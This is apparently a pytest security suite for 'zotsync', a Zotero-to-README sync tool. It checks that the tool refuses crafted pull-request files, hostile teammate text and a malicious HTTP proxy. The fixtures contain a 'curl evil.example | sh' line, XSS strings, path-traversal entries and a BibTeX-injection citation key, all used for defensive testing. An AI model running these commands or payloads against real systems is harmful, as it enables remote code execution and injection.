"""The holes a pull request, a teammate or a hostile server could open, each written as the
attack: a crafted file in a commit, a teammate's item over HTTP, a small hostile HTTP server
on loopback, two processes at once.  Each asserts what the user sees (message, exit status),
that nothing outside the list changed and that no key appears anywhere."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import GROUP, REPO, copy_project, run, snapshot

LIST = "multimodal-sequence-learning"


def git(cwd: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "mallory",
        "GIT_AUTHOR_EMAIL": "m@example.org",
        "GIT_COMMITTER_NAME": "mallory",
        "GIT_COMMITTER_EMAIL": "m@example.org",
    }
    done = subprocess.run(
        ["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True
    )
    return done.stdout


def pull_request(tmp_path: Path, attack: dict[str, bytes | str]) -> Path:
    """A clone of the project after merging a contributor's commit that adds ``attack``
    (path -> bytes, or path -> symlink target when the path ends in '@')."""
    origin = copy_project(tmp_path / "origin")
    git(origin, "init", "-q")
    git(origin, "add", "-A")
    git(origin, "commit", "-qm", "the list")
    for name, content in attack.items():
        if name.endswith("@"):
            target = origin / name[:-1]
            if target.is_dir():
                shutil.rmtree(target)
            target.symlink_to(content)
        else:
            (origin / name).parent.mkdir(parents=True, exist_ok=True)
            data = content if isinstance(content, bytes) else content.encode()
            (origin / name).write_bytes(data)
    git(origin, "add", "-A", "-f")
    git(origin, "commit", "-qm", "a helpful contribution", "--allow-empty")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(origin), str(clone))
    return clone


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file of the user's outside the project, that no zotsync command may touch."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_text("export PATH=$HOME/bin:$PATH\n")
    return path


def in_clone(clone: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "zotsync", *args],
        cwd=clone,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONWARNINGS": "ignore"},
        timeout=120,
    )


# ----------------------------------------------------------------- 1. files in a pull request


def test_a_committed_pending_save_cannot_touch_files_outside_the_list(
    tmp_path: Path, victim: Path
) -> None:
    folder = f"entries/{LIST}"
    hostile = {
        "replace": [[str(victim.parent / "evil"), str(victim)], ["../../x", "../../y"]],
        "delete": [str(victim), "../../../zotsync.yaml"],
    }
    text = json.dumps(hostile)
    clone = pull_request(
        tmp_path,
        {
            f"{folder}/.zotsync-cache/pending-save.json": text,
            f"{folder}/.zotsync-pending.json": text,  # where older versions kept it
        },
    )
    (victim.parent / "evil").write_text("curl evil.example | sh\n")
    before = snapshot(clone)
    cache_before = (clone / folder / ".zotsync-cache" / "pending-save.json").read_bytes()

    checked = in_clone(clone, "check")  # what the example workflow runs on every PR
    assert checked.returncode in (0, 1), checked.stderr
    assert "Traceback" not in checked.stderr
    assert (clone / folder / ".zotsync-cache" / "pending-save.json").read_bytes() == cache_before

    for command in (["render"], ["ingest", "--force"], ["export", "--list", LIST, "-o", "x.bib"]):
        done = in_clone(clone, *command)
        assert done.returncode == 2, (command, done.stdout, done.stderr)
        assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
        assert "pending-save.json" in done.stderr and "not a pending save" in done.stderr
    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"
    assert (victim.parent / "evil").exists()
    assert snapshot(clone) == before


def test_a_symlinked_section_folder_is_refused_not_written_through(
    tmp_path: Path, victim: Path
) -> None:
    folder = f"entries/{LIST}"
    clone = pull_request(tmp_path, {f"{folder}/sections@": str(victim.parent)})
    before = sorted(p.name for p in victim.parent.iterdir())
    done = in_clone(clone, "ingest", "--force")
    assert done.returncode == 2, done.stderr
    assert "symbolic link" in done.stderr and "Traceback" not in done.stderr  # not even read
    assert sorted(p.name for p in victim.parent.iterdir()) == before
    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"


def test_a_symlinked_state_journal_is_not_appended_to(tmp_path: Path, victim: Path) -> None:
    from zotsync.adapters.state_file import StateFile
    from zotsync.errors import InputError
    from zotsync.sync.state import SyncState

    clone = pull_request(tmp_path, {f"entries/{LIST}/sync-state.json.journal@": str(victim)})
    store = StateFile(clone / "entries" / LIST / "sync-state.json", {"group": 1})
    with pytest.raises(InputError, match="symbolic link"):
        store.journal(SyncState(library={"group": 1}), set(), set())
    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"


def test_config_paths_outside_the_project_are_refused(tmp_path: Path, victim: Path) -> None:
    config = (REPO / "zotsync.yaml").read_text()
    config = config.replace("markdown: ", f"markdown: ../../{victim.parent.name}/.bashrc #", 1)
    clone = pull_request(tmp_path, {"zotsync.yaml": config})
    done = in_clone(clone, "render")
    assert done.returncode == 2
    assert "zotsync.yaml:" in done.stderr and "must be a path inside" in done.stderr
    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"


def test_check_writes_nothing_at_all(tmp_path: Path) -> None:
    clone = pull_request(tmp_path, {})
    before = {p: p.read_bytes() for p in clone.rglob("*") if p.is_file()}
    done = in_clone(clone, "check")
    assert done.returncode in (0, 1)
    after = {p: p.read_bytes() for p in clone.rglob("*") if p.is_file()}
    assert after == before  # the cache included


def test_written_files_keep_their_mode(tmp_path: Path) -> None:
    clone = pull_request(tmp_path, {})
    readme = clone / "entries" / LIST / "README.md"
    title = "A Large-Scale Chinese Multimodal NER Dataset with Speech Clues"
    readme.write_text(readme.read_text().replace(title, title.upper(), 1))
    readme.chmod(0o644)
    section = clone / "entries" / LIST / "sections" / "datasets.yaml"
    section.chmod(0o640)
    before = section.read_bytes()
    os.umask(old := os.umask(0o077))  # a strict umask must not make shared files private
    try:
        done = in_clone(clone, "ingest", "--list", LIST)  # the README's edit reaches the YAML
        assert done.returncode == 0, done.stderr
        assert section.read_bytes() != before and title.upper() in section.read_text()
        section.write_text(section.read_text().replace(title.upper(), title, 1))
        done = in_clone(clone, "render", "--list", LIST)
        assert done.returncode == 0, done.stderr
        assert title in readme.read_text()
    finally:
        os.umask(old)
    assert readme.stat().st_mode & 0o777 == 0o644
    assert section.stat().st_mode & 0o777 == 0o640


# ----------------------------------------------------------------- 2, 3, 11, 13: a teammate's text


def teammate_posts(http, kind: str, objects: list[dict[str, object]]) -> list[str]:  # type: ignore[no-untyped-def]
    """A teammate's write over HTTP, as Zotero's own client would make it."""
    answer = http.post(f"/groups/{GROUP}/{kind}", json=objects)
    assert answer.status_code == 200, answer.text
    report = answer.json()
    assert not report["failed"], report["failed"]
    return [report["successful"][str(n)]["key"] for n in range(len(objects))]


def collection_of(http, *path: str) -> str:  # type: ignore[no-untyped-def]
    found = http.get(f"/groups/{GROUP}/collections", params={"limit": 100}).json()
    by_key = {c["key"]: c["data"] for c in found}

    def path_of(key: str) -> tuple[str, ...]:
        data = by_key[key]
        parent = data["parentCollection"]
        return (*(path_of(parent) if parent else ()), data["name"])

    return next(key for key in by_key if path_of(key) == path)


ROOT = "Awesome Multimodal Sequence Learning"
HOSTILE_NAME = (
    "Reading group [sign in here](https://evil.example/login) <img src=x onerror=alert(1)>"
    "\n# Owned\n<script>alert(1)</script>"
)
HOSTILE_TITLES = [
    "Carriage\r## Injected heading\r- [fake entry](https://evil.example)",
    "Windows\r\n\r\n# Heading from CRLF",
    "Null\x00byte and \u202eright-to-left override\u202c",
    "Line\u2028separator, next\x85line, para\u2029graph",
]


def readme_blocks(text: str) -> list[tuple[str, str]]:
    """The README as markdown-it sees it: (token type, content) of headings, links, HTML."""
    from markdown_it import MarkdownIt

    found = []
    for token in MarkdownIt("commonmark").parse(text):
        if token.type in ("heading_open", "html_block"):
            found.append((token.type, token.content or token.tag))
        for child in token.children or []:
            if child.type in ("link_open", "html_inline"):
                found.append((child.type, str(child.attrs.get("href", child.content))))
    return found


def test_a_teammates_hostile_text_reaches_the_readme_only_as_text(
    group_project: Path,
    sandbox,
    http,  # type: ignore[no-untyped-def]
) -> None:
    from test_sync import sync

    readme = group_project / "entries" / LIST / "README.md"
    before_sync = readme_blocks(readme.read_text())
    sync()
    fusion = collection_of(http, ROOT, "Research Areas", "Multimodal Fusion")
    [hostile_collection] = teammate_posts(
        http, "collections", [{"name": HOSTILE_NAME, "parentCollection": fusion}]
    )
    items = teammate_posts(
        http,
        "items",
        [
            {
                "itemType": "journalArticle",
                "title": title,
                "date": "2021",
                "url": f"https://example.org/paper-{n}",
                "citationKey": "evil2020,\n  note = {INJECTED}" if n == 0 else f"ok{n}",
                "collections": [hostile_collection if n == 0 else fusion],
            }
            for n, title in enumerate(HOSTILE_TITLES)
        ],
    )
    teammate_posts(
        http,
        "items",
        [
            {
                "itemType": "attachment",
                "linkMode": "linked_url",
                "parentItem": items[1],
                "title": "code\r# Attachment heading",
                "url": "https://github.com/x/y\r\n# more",
            }
        ],
    )
    report = sync("--list", LIST)
    assert {c["action"] for c in report["changes"]} >= {"add", "section"}
    assert report["refused"] and "not a valid BibTeX key" in report["refused"][0]["what"]
    assert run("render", "--list", LIST).exit_code == 0
    text = readme.read_text()
    assert not any(c in text for c in "\x00\u202e\u202c\u2028\u2029\x85\r")
    blocks = readme_blocks(text)
    new = [b for b in blocks if b not in before_sync]
    # One new heading (the teammate's collection), no new HTML, no link to evil.example.
    assert [kind for kind, _ in new if kind == "heading_open"] == ["heading_open"]
    assert not [b for b in new if b[0] in ("html_block", "html_inline")]
    assert not [b for b in blocks if "evil.example" in b[1] and b[0] == "link_open"]
    assert "Reading group \\[sign in here\\]" in text and "\\<img" in text

    # The README reads back as what was synced: nothing moved, removed or changed.
    ingested = run("ingest", "--list", LIST, "--json")
    assert ingested.exit_code == 0, ingested.output
    summary = json.loads(ingested.stdout)
    assert (summary["moved"], summary["removed"], summary["changed"]) == ([], [], [])
    again = sync("--list", LIST)
    assert again["changes"] == [] and again["conflicts"] == []

    # The refused key never reaches a .bib as structure.
    out = group_project / "list.bib"
    for source in ("entries", "zotero"):
        done = run("export", "--list", LIST, "--from", source, "-o", out)
        assert done.exit_code == 0, done.output
        bib = out.read_text()
        assert "INJECTED" not in bib and "evil2020," not in bib
        import bibtexparser

        parsed = bibtexparser.loads(bib)
        assert all(
            "note" not in entry or "INJECTED" not in entry["note"] for entry in parsed.entries
        )
    # The sync gave the item the entry's own key in Zotero too.
    theirs = http.get(f"/groups/{GROUP}/items/{items[0]}").json()["data"]["citationKey"]
    assert theirs == "CarriageInjectedHeading2021"
    # A teammate's item not yet pulled: export --from zotero names the key it refused.
    teammate_posts(
        http,
        "items",
        [
            {
                "itemType": "book",
                "title": "Later",
                "citationKey": "x}, @misc{y,",
                "collections": [fusion],
            }
        ],
    )
    done = run("export", "--list", LIST, "--from", "zotero", "-o", out)
    assert done.exit_code == 0, done.output
    assert "citationKey 'x}, @misc{y,' is not a valid BibTeX key; exported as" in done.stderr
    assert "@misc{y" not in out.read_text()


def test_a_citation_key_typed_into_the_yaml_must_be_a_bibtex_key(tmp_path: Path) -> None:
    clone = pull_request(tmp_path, {})
    section = clone / "entries" / LIST / "sections" / "datasets.yaml"
    text = section.read_text()
    key_line = next(line for line in text.splitlines() if "citation_key:" in line)
    section.write_text(text.replace(key_line, '  citation_key: "evil,\\n  note = {x}"', 1))
    line = text.splitlines().index(key_line) + 1
    done = in_clone(clone, "export", "--list", LIST, "-o", "x.bib")
    assert done.returncode == 2
    assert f"datasets.yaml:{line}: citation_key" in done.stderr
    assert "not a valid BibTeX key" in done.stderr
    assert not (clone / "x.bib").exists()


# ----------------------------------------------------------------- 4, 5, 7, 12: a hostile server


@pytest.fixture
def hostile(tmp_path: Path, sandbox, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    """The project syncing through a hostile proxy in front of the sandbox, and the
    bystander a redirect would send the key to."""
    from conftest import KEY, make_group_project
    from hostile import Bystander, HostileProxy

    proxy, bystander = HostileProxy(sandbox.url), Bystander()
    make_group_project(tmp_path / "p", proxy.url)
    monkeypatch.setenv("ZOTERO_API_KEY", KEY)
    monkeypatch.chdir(tmp_path / "p")
    yield proxy, bystander
    proxy.stop()
    bystander.stop()


def fails_cleanly(result, *words: str) -> str:  # type: ignore[no-untyped-def]
    """One `zotsync:` line, exit 4, naming what happened."""
    assert result.exit_code == 4, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("zotsync: "), result.stderr
    for word in words:
        assert word in lines[0], lines[0]
    return str(lines[0])


def test_no_redirect_takes_the_key_anywhere(hostile) -> None:  # type: ignore[no-untyped-def]
    from hostile import Answer

    proxy, bystander = hostile
    assert run("sync", "--list", LIST).exit_code == 0
    redirect = Answer(302, {"Location": f"{bystander.url}/groups/4242/items"})
    # The fast path's conditional request, then every read, redirected elsewhere.
    proxy.rules.append(lambda m, p, h: redirect if "if-modified-since-version" in h else None)
    assert run("sync", "--list", LIST).exit_code == 0  # the fast path gives way to a full sync
    proxy.rules.append(lambda m, p, h: redirect if m == "GET" else None)
    fails_cleanly(run("sync", "--list", LIST), "redirect", "never followed")
    fails_cleanly(run("export", "--list", LIST, "--from", "zotero"), "redirect")
    fails_cleanly(run("whoami", "--list", LIST), "redirect")
    assert bystander.seen == []


@pytest.mark.parametrize(
    "bad_key",
    [
        "zotsync\nsandboxkey",
        "zotsync\r\nsandboxkey",
        "zotsync\u200bsandboxkey",
        "zot\u00a0sandboxkey",
    ],
)
def test_a_malformed_key_is_refused_without_being_shown(  # type: ignore[no-untyped-def]
    hostile, monkeypatch: pytest.MonkeyPatch, bad_key: str
) -> None:
    proxy, _ = hostile
    seen: list[str] = []
    proxy.rules.append(lambda m, p, h: seen.append(p) or None)  # type: ignore[func-returns-value]
    monkeypatch.setenv("ZOTERO_API_KEY", bad_key)
    for command in (["sync"], ["whoami"], ["export", "--list", LIST, "--from", "zotero"]):
        result = run(*command)
        assert result.exit_code == 2, result.output
        assert "is not a Zotero API key" in result.stderr and "not shown" in result.stderr
        assert "sandboxkey" not in result.output and "Traceback" not in result.output
    if "\n" not in bad_key:  # login reads one line
        done = run("login", "--key-stdin", input=bad_key + "\n")
        assert done.exit_code == 2 and "sandboxkey" not in done.output
    assert seen == []  # not one request went out with it


def test_a_wait_past_the_cap_is_refused_at_once(hostile) -> None:  # type: ignore[no-untyped-def]
    from hostile import Answer

    proxy, _ = hostile
    proxy.rules.append(
        lambda m, p, h: Answer(429, {"Retry-After": "99999"}, b"slow down") if m == "GET" else None
    )
    started = time.monotonic()
    fails_cleanly(run("sync", "--list", LIST), "99999 s", "Retry-After", "honoured is 60 s")
    proxy.rules[:] = [
        lambda m, p, h: Answer(200, {"Backoff": "99999", "Content-Type": "application/json"}, b"[]")
    ]
    fails_cleanly(run("sync", "--list", LIST), "Backoff")
    assert time.monotonic() - started < 20


def test_an_endless_next_link_is_cut_off(hostile) -> None:  # type: ignore[no-untyped-def]
    from hostile import Answer

    proxy, _ = hostile
    page = json.dumps([{"key": "AAAAAAAA", "version": 1, "data": {"key": "AAAAAAAA", "name": "x"}}])

    def endless(method: str, path: str, headers: dict[str, str]) -> Answer | None:
        if method == "GET" and "/collections" in path:
            link = f'<{proxy.url}/groups/4242/collections?start=1>; rel="next"'
            return Answer(
                200,
                {
                    "Content-Type": "application/json",
                    "Total-Results": "3",
                    "Link": link,
                    "Last-Modified-Version": "5",
                },
                page.encode(),
            )
        return None

    proxy.rules.append(endless)
    fails_cleanly(run("sync", "--list", LIST), "more pages than the 3 objects")


def test_a_drip_fed_answer_is_cut_off(sandbox) -> None:  # type: ignore[no-untyped-def]
    from conftest import KEY
    from hostile import Answer, HostileProxy
    from zotsync.adapters.zotero_http import RemoteError, ZoteroLibrary

    proxy = HostileProxy(sandbox.url)
    proxy.rules.append(
        lambda m, p, h: Answer(
            200, {"Content-Type": "application/json"}, b"[" + b" " * 100 + b"]", 0.05
        )
    )
    library = ZoteroLibrary(proxy.url, 4242, KEY, deadline=1.0)
    started = time.monotonic()
    try:
        with pytest.raises(RemoteError, match="took too long"):
            library.collections()
    finally:
        library.close()
        proxy.stop()
    assert time.monotonic() - started < 4


WRONG_ANSWERS = {
    "html with 200": (200, {"Content-Type": "text/html"}, b"<html><body>Login</body></html>"),
    "truncated json": (200, {"Content-Type": "application/json"}, b'[{"key": "AB'),
    "wrong shape": (200, {"Content-Type": "application/json"}, b'{"items": "none"}'),
    "objects of the wrong shape": (200, {"Content-Type": "application/json"}, b'[{"key": 5}]'),
    "a non-numeric version": (
        200,
        {"Content-Type": "application/json", "Last-Modified-Version": "soon"},
        b"{}",
    ),
}


@pytest.mark.parametrize("kind", sorted(WRONG_ANSWERS))
def test_a_wrong_shaped_answer_is_one_line_and_status_4(hostile, kind: str) -> None:  # type: ignore[no-untyped-def]
    from hostile import Answer

    proxy, _ = hostile
    status, headers, body = WRONG_ANSWERS[kind]
    proxy.rules.append(lambda m, p, h: Answer(status, headers, body) if m == "GET" else None)
    before = snapshot(Path.cwd())
    fails_cleanly(run("sync", "--list", LIST), "not the Zotero API's")
    assert snapshot(Path.cwd()) == before


@pytest.mark.parametrize(
    "report",
    [
        b'{"successful": {}}',
        b'{"successful": {"0": {"key": 1}}, "unchanged": {}, "failed": {}}',
        b"[1]",
    ],
)
def test_a_wrong_write_report_is_one_line_and_status_4(hostile, report: bytes) -> None:  # type: ignore[no-untyped-def]
    from hostile import Answer

    proxy, _ = hostile
    answer = Answer(200, {"Content-Type": "application/json", "Last-Modified-Version": "9"}, report)
    proxy.rules.append(lambda m, p, h: answer if m == "POST" else None)
    fails_cleanly(run("sync", "--list", LIST), "writing collections", "not the Zotero API's")


# ----------------------------------------------------------------- 14. a hand-edited state


def test_a_state_where_two_entries_share_an_item_is_refused(group_project: Path, sandbox) -> None:  # type: ignore[no-untyped-def]
    from test_sync import library, sync

    sync()
    state_path = group_project / "entries" / LIST / "sync-state.json"
    state = json.loads(state_path.read_text())
    first, second = sorted(state["items"])[:2]
    state["items"][second]["key"] = state["items"][first]["key"]
    state_path.write_text(json.dumps(state))
    before, remote_before = snapshot(group_project / "entries"), library(sandbox)
    result = run("sync")
    assert result.exit_code == 2
    assert "sync-state.json: not a usable sync state" in result.stderr
    assert f"entry {first!r} and entry {second!r} both name object" in result.stderr
    assert snapshot(group_project / "entries") == before
    assert library(sandbox) == remote_before


# ----------------------------------------------------------------- 6. two processes at once


def test_an_ingest_during_a_sync_waits_or_says_who_holds_the_list(hostile, http) -> None:  # type: ignore[no-untyped-def]
    proxy, _ = hostile
    project = Path.cwd()
    assert run("sync", "--list", LIST).exit_code == 0
    assert run("render", "--list", LIST).exit_code == 0  # this clone knows the README is current
    # A teammate fixes a title in Zotero: the next sync pulls it and saves the list.
    title = "A Large-Scale Chinese Multimodal NER Dataset with Speech Clues"
    found = http.get(f"/groups/{GROUP}/items", params={"q": title}).json()
    item = next(i for i in found if i["data"]["title"] == title)
    fixed = http.patch(
        f"/groups/{GROUP}/items/{item['key']}",
        json={"title": title + " (fixed)"},
        headers={"If-Unmodified-Since-Version": str(item["version"])},
    )
    assert fixed.status_code == 204, fixed.text
    # A contributor's README edit, to be ingested while that sync runs.
    readme = project / "entries" / LIST / "README.md"
    text = readme.read_text()
    line = next(ln for ln in text.splitlines() if title in ln)
    added = line.replace(title, "A Paper From A Pull Request").replace("2021", "2022")
    readme.write_text(text.replace(line, f"{line}\n\n{added}", 1))

    def slow(method: str, path: str, headers: dict[str, str]) -> None:
        time.sleep(1.0)  # a slow network: the sync holds the list for seconds
        return None

    proxy.rules.append(slow)
    env = {**os.environ, "ZOTSYNC_LOCK_WAIT": "0.5"}
    command = [sys.executable, "-m", "zotsync"]
    syncing = subprocess.Popen(
        [*command, "sync"],
        cwd=project,
        env=env,
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    lock = project / "entries" / LIST / ".zotsync-cache" / "lock"
    deadline = time.monotonic() + 30
    while not (lock.exists() and f"pid {syncing.pid} " in lock.read_text()):
        assert time.monotonic() < deadline and syncing.poll() is None
        time.sleep(0.05)
    busy = subprocess.run(
        [*command, "ingest", "--list", LIST], cwd=project, env=env, capture_output=True, text=True
    )
    assert busy.returncode == 5, busy.stderr
    assert f"pid {syncing.pid} (`zotsync sync`" in busy.stderr and "nothing was done" in busy.stderr
    # (the entries may change meanwhile: the sync itself takes the README's edit in)

    waiting = subprocess.run(
        [*command, "ingest", "--list", LIST],
        cwd=project,
        env={**env, "ZOTSYNC_LOCK_WAIT": "60"},
        capture_output=True,
        text=True,
    )
    out, err = syncing.communicate(timeout=60)
    assert syncing.returncode == 0, err
    # The sync took the README's paper in before it planned, and the ingest ran after it:
    # the pulled title and the pull request's paper both stand, each once.
    entries = "".join(
        p.read_text() for p in (project / "entries" / LIST / "sections").glob("*.yaml")
    )
    assert waiting.returncode == 0, waiting.stderr
    assert entries.count(title + " (fixed)") == 1, (out, waiting.stdout, waiting.stderr)
    assert entries.count("title: A Paper From A Pull Request") == 1


# ----------------------------------------------------------------- 8. the root collection deleted


def test_a_deleted_root_collection_stops_the_sync_until_put_back(  # type: ignore[no-untyped-def]
    group_project: Path, sandbox, http
) -> None:
    from test_sync import library, path_of, sync

    sync()
    root = collection_of(http, ROOT)
    version = http.get(f"/groups/{GROUP}/collections/{root}").json()["version"]
    gone = http.delete(
        f"/groups/{GROUP}/collections/{root}", headers={"If-Unmodified-Since-Version": str(version)}
    )
    assert gone.status_code == 204, gone.text
    before, remote_before = snapshot(group_project / "entries"), library(sandbox)
    stopped = run("sync")
    assert stopped.exit_code == 2
    assert f"root collection {ROOT!r} was deleted in Zotero" in stopped.stderr
    assert "--allow-empty" in stopped.stderr
    assert snapshot(group_project / "entries") == before and library(sandbox) == remote_before

    sync("--allow-empty")  # put it back: every item in its section's collection again
    lib = library(sandbox)
    ours = {k for k in lib["collections"] if path_of(lib, k)[0] == ROOT}
    state = json.loads((group_project / "entries" / LIST / "sync-state.json").read_text())
    keys = {record["key"] for record in state["items"].values()}
    assert keys and all(set(lib["items"][key]["collections"]) & ours for key in keys)
    assert all(report["changes"] == [] for report in sync())


# ----------------------------------------------------------------- 10. one item, two collections


def sections_holding(project: Path, title: str) -> list[str]:
    import yaml

    found = []
    for path in sorted((project / "entries" / LIST / "sections").glob("*.yaml")):
        doc = yaml.safe_load(path.read_text())
        found += [path.stem for e in doc["entries"] or [] if e["title"] == title]
    return found


def refile(http, key: str, collections: list[str]) -> None:  # type: ignore[no-untyped-def]
    item = http.get(f"/groups/{GROUP}/items/{key}").json()
    done = http.patch(
        f"/groups/{GROUP}/items/{key}",
        json={"collections": collections},
        headers={"If-Unmodified-Since-Version": str(item["version"])},
    )
    assert done.status_code == 204, done.text


def test_an_item_filed_in_two_of_the_lists_collections_is_an_entry_in_each(  # type: ignore[no-untyped-def]
    group_project: Path, sandbox, http
) -> None:
    from test_sync import library, sync

    sync()
    title = "A Large-Scale Chinese Multimodal NER Dataset with Speech Clues"
    lib = library(sandbox)
    [key] = [k for k, d in lib["items"].items() if d.get("title") == title]
    datasets = lib["items"][key]["collections"]
    fusion = collection_of(http, ROOT, "Research Areas", "Multimodal Fusion")
    refile(http, key, [*datasets, fusion])  # a teammate files it under Fusion too

    result = run("sync", "--list", LIST)
    assert result.exit_code == 0, result.output
    assert "also in   Research Areas / Multimodal Fusion" in result.stdout
    assert "moved" not in result.stdout
    assert sections_holding(group_project, title) == [
        "datasets",
        "research-areas--multimodal-fusion",
    ]
    assert run("render", "--list", LIST).exit_code == 0
    readme = (group_project / "entries" / LIST / "README.md").read_text()
    assert readme.count(title) == 2
    lib = library(sandbox)
    assert [k for k, d in lib["items"].items() if d.get("title") == title] == [key]
    assert sorted(lib["items"][key]["collections"]) == sorted([*datasets, fusion])
    again = run("sync", "--list", LIST, "--json")
    assert json.loads(again.stdout)["changes"] == [] and again.exit_code == 0

    refile(http, key, [fusion])  # and then takes it out of Datasets
    result = run("sync", "--list", LIST)
    assert result.exit_code == 0, result.output
    assert sections_holding(group_project, title) == ["research-areas--multimodal-fusion"]
    lib = library(sandbox)
    assert [k for k, d in lib["items"].items() if d.get("title") == title] == [key]
    assert lib["items"][key]["collections"] == [fusion]
    assert json.loads(run("sync", "--list", LIST, "--json").stdout)["changes"] == []


# ----------------------------------------------------------------- 9. a collection renamed or moved


def edit_collection(http, key: str, **data: object) -> None:  # type: ignore[no-untyped-def]
    found = http.get(f"/groups/{GROUP}/collections/{key}").json()
    done = http.patch(
        f"/groups/{GROUP}/collections/{key}",
        json=data,
        headers={"If-Unmodified-Since-Version": str(found["version"])},
    )
    assert done.status_code == 204, done.text


def reread(project: Path) -> dict[str, object]:
    """What an ordinary ingest of the rendered README says: it must find nothing moved."""
    assert run("render", "--list", LIST).exit_code == 0
    done = run("ingest", "--list", LIST, "--json")
    assert done.exit_code == 0, done.output
    return dict(json.loads(done.stdout))


def test_a_collection_renamed_or_moved_in_zotero_is_followed(  # type: ignore[no-untyped-def]
    group_project: Path, sandbox, http
) -> None:
    from test_sync import library, path_of, sync

    sync()
    assert run("render", "--list", LIST).exit_code == 0
    fusion = collection_of(http, ROOT, "Research Areas", "Multimodal Fusion")
    edit_collection(http, fusion, name="Fusion Methods")
    result = run("sync", "--list", LIST)
    assert result.exit_code == 0, result.output
    assert "Research Areas / Multimodal Fusion -> Research Areas / Fusion Methods" in result.stdout
    readme = group_project / "entries" / LIST / "README.md"
    report = reread(group_project)
    assert (report["moved"], report["removed"], report["added"]) == ([], [], [])
    assert "### Fusion Methods" in readme.read_text()
    lib = library(sandbox)
    assert path_of(lib, fusion) == (ROOT, "Research Areas", "Fusion Methods")

    # Moved under another section: the section's part of the README goes there.
    datasets = collection_of(http, ROOT, "Datasets")
    edit_collection(http, fusion, parentCollection=datasets)
    result = run("sync", "--list", LIST)
    assert result.exit_code == 0, result.output
    assert "-> Datasets / Fusion Methods" in result.stdout
    report = reread(group_project)
    assert (report["moved"], report["removed"], report["added"]) == ([], [], [])
    lib = library(sandbox)
    assert path_of(lib, fusion) == (ROOT, "Datasets", "Fusion Methods")
    assert json.loads(run("sync", "--list", LIST, "--json").stdout)["changes"] == []
    members = [d for d in lib["items"].values() if fusion in d.get("collections", [])]
    assert len(members) > 10  # its papers stayed in it

    # Renamed on both sides, differently: a conflict, both left alone.
    section = next((group_project / "entries" / LIST / "sections").glob("*fusion*.yaml"))
    section.write_text(section.read_text().replace("Fusion Methods", "Fusion", 1))
    edit_collection(http, fusion, name="Fusion Approaches")
    clash = run("sync", "--list", LIST)
    assert clash.exit_code == 3, clash.output
    assert "conflict" in clash.stdout and "Fusion Approaches" in clash.stdout
    assert library(sandbox)["collections"][fusion]["name"] == "Fusion Approaches"


def test_a_heading_renamed_in_the_readme_renames_the_collection(  # type: ignore[no-untyped-def]
    group_project: Path, sandbox, http
) -> None:
    from test_sync import library, path_of, sync

    sync()
    assert run("render", "--list", LIST).exit_code == 0
    fusion = collection_of(http, ROOT, "Research Areas", "Multimodal Fusion")
    readme = group_project / "entries" / LIST / "README.md"
    readme.write_text(readme.read_text().replace("### Multimodal Fusion", "### Fusion", 1))
    assert run("ingest", "--list", LIST).exit_code == 0
    before = len(library(sandbox)["collections"])
    sync()
    lib = library(sandbox)
    assert len(lib["collections"]) == before  # the same collection, renamed: none made
    assert path_of(lib, fusion) == (ROOT, "Research Areas", "Fusion")
    assert all(report["changes"] == [] for report in sync())


def test_a_paper_a_teammate_files_in_two_sections_is_an_entry_in_both(  # type: ignore[no-untyped-def]
    group_project: Path, sandbox, http
) -> None:
    from test_sync import library, sync

    sync()
    fusion = collection_of(http, ROOT, "Research Areas", "Multimodal Fusion")
    datasets = collection_of(http, ROOT, "Datasets")
    title = "Attention Bottlenecks for Multimodal Fusion"
    [key] = teammate_posts(
        http,
        "items",
        [
            {
                "itemType": "journalArticle",
                "title": title,
                "date": "2021",
                "url": "https://arxiv.org/abs/2107.00135",
                "collections": [fusion, datasets],
            }
        ],
    )
    sync()
    assert sections_holding(group_project, title) == [
        "datasets",
        "research-areas--multimodal-fusion",
    ]
    assert sorted(library(sandbox)["items"][key]["collections"]) == sorted([fusion, datasets])
    assert all(report["changes"] == [] for report in sync())
    assert sorted(library(sandbox)["items"][key]["collections"]) == sorted([fusion, datasets])


def test_a_parent_heading_renamed_in_the_readme_renames_its_collection(  # type: ignore[no-untyped-def]
    group_project: Path, sandbox, http
) -> None:
    from test_sync import library, path_of, sync

    sync()
    areas = collection_of(http, ROOT, "Research Areas")
    readme = group_project / "entries" / LIST / "README.md"
    readme.write_text(readme.read_text().replace("## Research Areas", "## Areas", 1))
    assert run("ingest", "--list", LIST, "--force").exit_code == 0
    before = len(library(sandbox)["collections"])
    sync()
    lib = library(sandbox)
    assert len(lib["collections"]) == before  # renamed, not made again
    assert path_of(lib, areas) == (ROOT, "Areas")
    assert all(report["changes"] == [] for report in sync())


NER = "A Large-Scale Chinese Multimodal NER Dataset with Speech Clues"


@pytest.mark.parametrize("teammate", ["moves a collection", "files a paper twice"])
def test_following_zotero_killed_at_any_write_converges(  # type: ignore[no-untyped-def]
    group_project: Path, sandbox, http, teammate: str, tmp_path_factory
) -> None:
    from conftest import KEY
    from test_sync import library, path_of, sync

    sync()
    fusion = collection_of(http, ROOT, "Research Areas", "Multimodal Fusion")
    datasets = collection_of(http, ROOT, "Datasets")
    if teammate == "moves a collection":
        edit_collection(http, fusion, name="Fusion", parentCollection=datasets)
        expected = ["datasets"]
    else:
        [key] = [k for k, d in library(sandbox)["items"].items() if d.get("title") == NER]
        refile(http, key, [datasets, fusion])
        expected = ["datasets", "research-areas--multimodal-fusion"]
    runs = tmp_path_factory.mktemp("runs")
    pristine = runs / "pristine"
    shutil.copytree(group_project, pristine)
    env = {**os.environ, "ZOTERO_API_KEY": KEY}
